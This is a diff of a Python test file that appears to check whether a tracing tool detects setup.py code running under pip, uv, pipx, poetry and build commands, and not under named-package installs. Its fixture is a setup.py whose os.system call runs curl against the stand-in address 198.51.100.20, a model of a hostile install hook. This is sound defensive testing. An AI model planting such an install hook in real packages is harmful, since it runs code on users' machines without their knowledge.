@@ -342,15 +342,17 @@ SETUP = ("from setuptools import setup\nimport os\nos.system('curl -s http://198
 
 
 @pytest.mark.parametrize("run", ["pip install .", "pip install -e .", "python -m pip install ./",
-                                 "python setup.py develop", "python -m build"])
+                                 "python setup.py develop", "python -m build", "pip install -e '.[dev]'",
+                                 "uv pip install .", "pipx install ./", "poetry install"])
 def test_setup_py_runs_on_build(run: str) -> None:
     _, f = flow(("file", "setup.py", SETUP), run)
     assert "curl" in names(f) and ("198.51.100.20", 80) in connects(f)
 
 
 def test_setup_py_not_run_by_installing_a_named_package() -> None:
-    _, f = flow(("file", "setup.py", SETUP), "pip install requests")
-    assert f.events == ()
+    for run in ("pip install requests", "uv pip install ruff", "poetry add httpx", "pip list"):
+        _, f = flow(("file", "setup.py", SETUP), run)
+        assert f.events == (), run
 
 
 MAKEFILE = ("CC=gcc\n\nall: build\n\nbuild:\n\t$(CC) -o app main.c\n\n"
